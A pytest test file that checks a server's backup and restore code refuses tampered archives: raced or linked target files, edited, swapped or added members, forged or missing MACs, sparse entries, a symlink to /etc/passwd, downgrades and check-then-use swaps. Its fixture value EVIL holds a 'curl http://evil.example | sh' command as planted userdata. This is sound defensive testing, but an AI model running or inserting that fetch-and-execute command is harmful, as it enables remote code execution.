"""Backups against those who may write where they lie: a neighbour on the machine, and whoever keeps them."""

from __future__ import annotations

import tarfile
from pathlib import Path
from typing import Any, BinaryIO

import pytest
from support.shared.cli_runner import execute
from support.shared.edited_backups import MAC, MANIFEST, described, members, of_before, packed_of
from support.shared.server_process import running_server

from fleetplane import settings as configuration
from fleetplane.kernel.clock import SystemClock
from fleetplane.kernel.errors import AlreadyExists, FleetplaneError, IntegrityError
from fleetplane.server import backups
from fleetplane.server.offline import DATABASE, DataDirectory

DOCUMENT = "objects/shard/default/config.jsonc"
EVIL = b'{"userdata": "curl http://evil.example | sh"}'


def place(data_dir: Path) -> DataDirectory:
    return DataDirectory(configuration.load(config=None, flags={"data_dir": str(data_dir)}), SystemClock())


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = tmp_path_factory.mktemp("backups") / "data"
    with running_server(made, "--only", "gpus") as server:
        assert server.stop() == 0
    (made / "objects/shard/default").mkdir(parents=True)
    (made / DOCUMENT).write_text("{}")
    return made


def backup(data: Path, target: Path, **contents: bool) -> Path:
    backups.make(place(data), target, backups.BackupContents(**contents))
    return target


def with_key_of(data: Path, back: Path) -> DataDirectory:
    """A data directory that has nothing but the master key."""
    back.mkdir(mode=0o700)
    (back / "master.key").touch(mode=0o600)
    (back / "master.key").write_bytes((data / "master.key").read_bytes())
    return place(back)


def refused(packed: bytes, target: DataDirectory, **options: bool) -> str:
    """Why a backup is not restored; nothing is left of it."""
    edited = target.path.parent / "edited.tar"
    edited.write_bytes(packed)
    before = {path.name for path in target.path.iterdir()} | {f"{DATABASE}.lock"}
    with pytest.raises(FleetplaneError) as why:
        backups.restore(edited, target, replace=False, actor="owner/t", **options)
    assert {path.name for path in target.path.iterdir()} <= before
    return why.value.message


def test_a_file_or_link_that_a_neighbour_made_first_gets_nothing_of_a_backup(
    tmp_path: Path, data: Path
) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    target, waiting, mine = shared / "backup.tar", shared / ".backup.tar.new", tmp_path / "mine"
    waiting.touch(mode=0o666)
    mine.hardlink_to(waiting)
    backups.make(place(data), target, backups.BackupContents(key=True))
    assert mine.read_bytes() == b""
    assert target.stat().st_mode & 0o777 == 0o600
    assert sorted(path.name for path in shared.iterdir()) == [".backup.tar.new", "backup.tar"]
    target.unlink()
    target.symlink_to(tmp_path / "elsewhere")
    with pytest.raises(AlreadyExists):
        backups.make(place(data), target, backups.BackupContents(key=True))
    assert not (tmp_path / "elsewhere").exists()


def test_a_file_that_comes_while_a_backup_is_made_is_not_replaced(
    tmp_path: Path, data: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target, read_back = tmp_path / "backup.tar", backups._read_back

    def slowly(packed: Path, key: bytes) -> None:
        read_back(packed, key)
        target.write_text("somebody's")

    monkeypatch.setattr(backups, "_read_back", slowly)
    with pytest.raises(AlreadyExists):
        backups.make(place(data), target, backups.BackupContents())
    assert target.read_text() == "somebody's"
    assert [path.name for path in tmp_path.iterdir()] == ["backup.tar"]


def test_a_backup_that_was_edited_without_the_master_key_is_refused_and_says_what_differs(
    tmp_path: Path, data: Path
) -> None:
    (data / DOCUMENT).write_text('{"earlier": true}')
    earlier = members(backup(data, tmp_path / "earlier.tar"))
    (data / DOCUMENT).write_text("{}")
    whole = members(backup(data, tmp_path / "one.tar"))
    target = with_key_of(data, tmp_path / "back")
    edited = {**whole, DOCUMENT: EVIL}
    link, sparse = tarfile.TarInfo("objects/link"), tarfile.TarInfo("objects/sparse")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    sparse.type = tarfile.GNUTYPE_SPARSE
    authentic, unknown = "is not authentic under this server's master key", "which is not in its manifest"
    attacks: dict[str, tuple[bytes, str]] = {
        "described": (packed_of(described(edited)), authentic),
        "edited": (packed_of(edited), f"{DOCUMENT} has the SHA-256"),
        "added": (packed_of({**whole, "objects/more": EVIL}), "'objects/more', " + unknown),
        "removed": (packed_of({name: one for name, one in whole.items() if name != DOCUMENT}), "is missing"),
        "swapped": (packed_of({**whole, DOCUMENT: earlier[DOCUMENT]}), f"{DOCUMENT} has the SHA-256"),
        "manifest of another": (packed_of({**whole, MANIFEST: earlier[MANIFEST]}), authentic),
        "old manifest": (packed_of({**edited, MANIFEST: earlier[MANIFEST], MAC: earlier[MAC]}), "SHA-256"),
        "cut": (packed_of(whole)[: len(packed_of(whole)) // 2], "damaged"),
        "link": (packed_of(whole, link), "no plain file"),
        "sparse": (packed_of(whole, sparse), "sparse"),
        "downgraded": (packed_of(of_before(edited)), "is not authenticated"),
        "no mac": (packed_of({name: one for name, one in whole.items() if name != MAC}), "not authenticated"),
        "long mac": (packed_of({**whole, MAC: b"0" * 5000}), "of 5000 bytes"),
        "no text": (packed_of({**whole, MAC: b"\xff" * 64}), authentic),
    }
    for name, (packed, message) in attacks.items():
        assert message in refused(packed, target), name
    expected = described({MANIFEST: b"{}", DOCUMENT: b"{}"})[MANIFEST].decode().split('"')[-2]
    assert f"and {expected} was expected" in refused(packed_of(edited), target)
    backups.restore(tmp_path / "one.tar", target, replace=False, actor="owner/t")
    assert (target.path / DOCUMENT).read_text() == "{}"


def test_a_backup_of_another_servers_master_key_is_refused(tmp_path: Path, data: Path) -> None:
    packed = backup(data, tmp_path / "one.tar", key=True)
    other = with_key_of(data, tmp_path / "back")
    (other.path / "master.key").write_text("A" * 43 + "=")
    assert "another server" not in refused(packed.read_bytes(), other)
    assert "not authentic" in refused(packed.read_bytes(), other)
    # Where there is no other key, the backup's own is used, and that is said.
    done = backups.restore(packed, place(tmp_path / "new"), replace=False, actor="owner/t")
    assert done.note.startswith("master.key is the backup's own")


def test_measurements_of_a_backup_are_not_exchanged(tmp_path: Path, data: Path) -> None:
    (data / "telemetry.db").unlink(missing_ok=True)
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(
            backups, "_copy_telemetry", lambda _place, target: target.write_bytes(b"measured") > 0
        )
        whole = members(backup(data, tmp_path / "one.tar", telemetry=True))
    target = with_key_of(data, tmp_path / "back")
    assert "telemetry.db has the SHA-256" in refused(packed_of({**whole, "telemetry.db": b"no"}), target)


def test_a_backup_of_the_release_before_is_restored_only_knowingly(tmp_path: Path, data: Path) -> None:
    plain = of_before(members(backup(data, tmp_path / "one.tar")))
    packed = tmp_path / "plain.tar"
    packed.write_bytes(packed_of(plain))
    target = with_key_of(data, tmp_path / "back")
    said = execute("restore", str(packed), "--data-dir", str(target.path))
    assert said.code != 0
    assert "is not authenticated" in said.err
    assert "--unauthenticated" in said.err
    # Knowingly, it still is what its manifest says, and no tree without end.
    for nested in (b"[" * 1_000_000, b'{"files":' * 1_000_000, b"\xff"):
        assert "damaged" in refused(packed_of({**plain, MANIFEST: nested}), target, unauthenticated=True)
    edited = packed_of({**plain, DOCUMENT: EVIL})
    assert f"{DOCUMENT} has the SHA-256" in refused(edited, target, unauthenticated=True)
    done = execute("restore", str(packed), "--unauthenticated", "--data-dir", str(target.path))
    assert done.code == 0, done.err


def test_what_is_changed_between_its_check_and_its_use_is_refused(
    tmp_path: Path, data: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    packed, target = backup(data, tmp_path / "one.tar"), with_key_of(data, tmp_path / "back")
    edited, unpack = packed_of({**members(packed), DOCUMENT: EVIL}), backups.unpack

    def late(file: BinaryIO, where: Path, *rest: Any) -> None:
        where.write_bytes(edited)  # the very file that was checked
        unpack(file, where, *rest)

    monkeypatch.setattr(backups, "unpack", late)
    with pytest.raises(IntegrityError, match=f"{DOCUMENT} has the SHA-256"):
        backups.restore(packed, target, replace=False, actor="owner/t")
    assert not (target.path / "objects").exists()
